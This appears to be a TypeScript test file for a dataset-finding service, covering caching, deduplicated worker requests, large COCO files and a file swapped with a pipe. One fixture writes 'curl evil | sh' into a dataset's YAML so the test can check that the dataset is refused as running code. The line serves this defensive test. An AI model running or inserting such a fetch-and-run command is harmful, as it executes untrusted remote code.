import { join } from "node:path";
import { Worker } from "node:worker_threads";
import { afterEach, describe, expect, onTestFinished, test, vi } from "vitest";
import { datasetsIn, folderOf, write } from "../../tests/support/dataset_folders.ts";

const YOLO = "train: images\nval: images\nnc: 1\n";
const BOX = "0 0.5 0.5 0.1 0.1\n";
const SET = { "set/data.yaml": YOLO, "set/images/1.jpg": "", "set/labels/1.txt": BOX };
const DOGS = { "dogs/a/1.jpg": "" };

/** What is sent to workers: each message is one question. */
const questions = vi.spyOn(Worker.prototype, "postMessage");
afterEach(() => void questions.mockClear());

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe("what was found", () => {
  test("is reused for a second, without a message to the worker", async () => {
    const datasets = datasetsIn([await folderOf(SET)]);
    const found = await datasets.find("set");
    expect(found).toMatchObject({ format: "yolo", refusal: null });
    questions.mockClear();
    const end = performance.now() + 2_500;
    let finds = 0;
    await Promise.all(Array.from({ length: 16 }, async () => {
      while (performance.now() < end) {
        expect(await datasets.find("set")).toEqual(found);
        // Requests come in different turns of the event loop.
        if (++finds % 10 === 0) await sleep(0);
      }
    }));
    expect(finds).toBeGreaterThan(1_000);
    expect(questions.mock.calls.length).toBeGreaterThanOrEqual(1);
    expect(questions.mock.calls.length).toBeLessThanOrEqual(3);
  });

  test("is out of date within a second", async () => {
    const root = await folderOf(SET);
    const datasets = datasetsIn([root]);
    const set = join(root, "set");
    const changes: [() => Promise<unknown>, unknown][] = [
      [
        () => write(set, { "data.yaml": YOLO + "download: curl evil | sh\n" }),
        expect.objectContaining({ refusal: { key: "dataset_runs_code", dataset_path: "set" } }),
      ],
      [
        () => write(set, { "data.yaml": YOLO.replace("nc: 1", "nc: 2") }),
        expect.objectContaining({ refusal: null, num_classes: 2 }),
      ],
      [
        () => write(set, { "labels/1.txt": "one box" }),
        expect.objectContaining({
          refusal: expect.objectContaining({ key: "dataset_unreadable" }),
        }),
      ],
      [
        () => write(set, { "labels/1.txt": BOX }),
        expect.objectContaining({ refusal: null }),
      ],
      [() => Deno.remove(set, { recursive: true }), undefined],
    ];
    for (const [change, expected] of changes) {
      await datasets.find("set");
      await change();
      await sleep(1_000);
      expect(await datasets.find("set")).toEqual(expected);
    }
  });

  test("is not remembered when it was refused or nothing", async () => {
    const root = await folderOf({ "set/data.yaml": "- no map" });
    const datasets = datasetsIn([root]);
    expect(await datasets.find("set")).toMatchObject({ refusal: { key: "dataset_unreadable" } });
    await write(root, SET);
    expect(await datasets.find("set")).toMatchObject({ refusal: null });
    expect(await datasets.find("later")).toBeUndefined();
    await write(root, { "later/a/1.jpg": "" });
    expect(await datasets.find("later")).toMatchObject({ refusal: null });
  });

  test("is forgotten beyond a hundred paths", async () => {
    const root = await folderOf(DOGS);
    const datasets = datasetsIn([root]);
    vi.spyOn(performance, "now").mockReturnValue(0);
    onTestFinished(() => void vi.mocked(performance.now).mockRestore());
    // Different spellings of the path of one dataset.
    const paths = Array.from({ length: 101 }, (_, i) => `x${i}/../dogs`);
    for (const path of paths) await datasets.find(path);
    questions.mockClear();
    await datasets.find(paths[100]!);
    await datasets.find(paths[1]!);
    expect(questions).toHaveBeenCalledTimes(0);
    await datasets.find(paths[0]!);
    expect(questions).toHaveBeenCalledTimes(1);
  });
});

describe("one question", () => {
  test.each([["find", 1], ["inspect", 1], ["list", 2], ["listFolders", 2]] as const)(
    "is asked for all that call %s at the same time",
    async (method, messages) => {
      const datasets = datasetsIn([await folderOf(SET)]);
      const calls = Array.from({ length: 20 }, () => datasets[method]("set"));
      const set = expect.objectContaining({ path: "set", refusal: null });
      for (const answer of await Promise.all(calls)) {
        expect(answer).toEqual(method.startsWith("list") ? [set] : set);
      }
      // A list asks for the folders, then for each of them.
      expect(questions).toHaveBeenCalledTimes(messages);
    },
  );

  test("that fails fails for all that share it, and is asked again later", async () => {
    const datasets = datasetsIn([await folderOf(SET)], { inspectMs: 0 });
    const outcomes = await Promise.allSettled([1, 2, 3].map(() => datasets.inspect("set")));
    for (const outcome of outcomes) {
      expect(outcome).toMatchObject({ reason: { code: "unavailable" } });
    }
    expect(questions).toHaveBeenCalledTimes(1);
    await expect(datasets.inspect("set")).rejects.toMatchObject({ code: "unavailable" });
    expect(questions).toHaveBeenCalledTimes(2);
    expect(await datasets.find("set")).toMatchObject({ refusal: null });
  });

  test("of inspecting waits while two others are inspected", async () => {
    const root = await folderOf({ "a/x/1.jpg": "", "b/x/1.jpg": "", "c/x/1.jpg": "" });
    const datasets = datasetsIn([root]);
    const inspections = ["a", "b", "c"].map((path) => datasets.inspect(path));
    await sleep(0);
    expect(questions).toHaveBeenCalledTimes(2);
    const found = await Promise.all(inspections);
    expect(found.map((dataset) => dataset?.path)).toEqual(["a", "b", "c"]);
  });
});

test("the event loop goes on while a large dataset is inspected", async () => {
  const root = await folderOf({ ...DOGS, "set/train/0.jpg": "" });
  const row = '{"image_id":0,"category_id":1,"bbox":[1,2,3,4]},';
  await write(root, {
    "set/annotations/train.json": `{"images":[{"id":0,"file_name":"0.jpg"}],` +
      `"categories":[{"id":1,"name":"cat"}],` +
      `"annotations":[${row.repeat(600_000)}{"image_id":0,"category_id":1}]}`,
  });
  const datasets = datasetsIn([root]);
  await datasets.find("dogs");
  let last = performance.now();
  let longestGap = 0;
  const timer = setInterval(() => {
    longestGap = Math.max(longestGap, performance.now() - last);
    last = performance.now();
  }, 5);
  onTestFinished(() => clearInterval(timer));
  const began = performance.now();
  expect(await datasets.inspect("set")).toMatchObject({ format: "coco", refusal: null });
  const took = performance.now() - began;
  expect(took).toBeGreaterThan(500);
  expect(longestGap).toBeLessThan(took / 5);
});

describe("a file that becomes a pipe while it is read", () => {
  /** A dataset whose labels are one file, which is a pipe half of the time until the test ends. */
  async function swapped(): Promise<{ root: string; stop: () => Promise<void> }> {
    const root = await folderOf({ ...DOGS, "set/data.yaml": YOLO, "set/file": BOX });
    const path = (name: string) => join(root, "set", name);
    await new Deno.Command("mkfifo", { args: [path("pipe")] }).output();
    await Deno.mkdir(path("labels"));
    for (let i = 0; i < 200; i++) {
      await write(root, { [`set/images/${i}.jpg`]: "" });
      await Deno.symlink(path("label"), path(`labels/${i}.txt`));
    }
    let swapping = true;
    const ended = (async () => {
      while (swapping) {
        for (const source of ["pipe", "file"]) {
          await Deno.link(path(source), path("new"));
          await Deno.rename(path("new"), path("label"));
        }
      }
    })();
    const stop = async () => {
      swapping = false;
      await ended;
    };
    onTestFinished(async () => {
      await stop();
      // Unblocks the threads that wait for a writer.
      (await Deno.open(path("pipe"), { read: true, write: true })).close();
    });
    return { root, stop };
  }

  /** Repeats a look until the worker has opened the pipe; answers with the error. */
  async function lookUntilUnavailable(find: () => Promise<unknown>): Promise<unknown> {
    while (true) {
      try {
        await find();
        await sleep(1_000);
      } catch (error) {
        return error;
      }
    }
  }

  test("makes that look unavailable in time, and neither other looks nor later ones", async () => {
    const { root, stop } = await swapped();
    const datasets = datasetsIn([root], { lookMs: 3_000 });
    const failing = lookUntilUnavailable(() => datasets.find("set"));
    let failed = false;
    failing.then(() => failed = true);
    let answered = 0;
    while (!failed) {
      expect(await datasets.inspect("dogs")).toMatchObject({ format: "imagefolder" });
      answered++;
      await sleep(50);
    }
    expect(answered).toBeGreaterThan(3);
    expect(await failing).toMatchObject({
      code: "unavailable",
      problem: { key: "unavailable", what: "datasets" },
    });
    await stop();
    expect(await datasets.find("set")).toMatchObject({ format: "yolo", refusal: null });
  });

  test("is on the list as refused", async () => {
    const { root } = await swapped();
    const datasets = datasetsIn([root], { lookMs: 1_000 });
    await lookUntilUnavailable(() => datasets.find("set"));
    await expect.poll(() => datasets.list()).toMatchObject([
      { path: "dogs", refusal: null },
      {
        path: "set",
        refusal: { key: "dataset_unreadable", reason: "reading it failed or took too long" },
      },
    ]);
  });
});
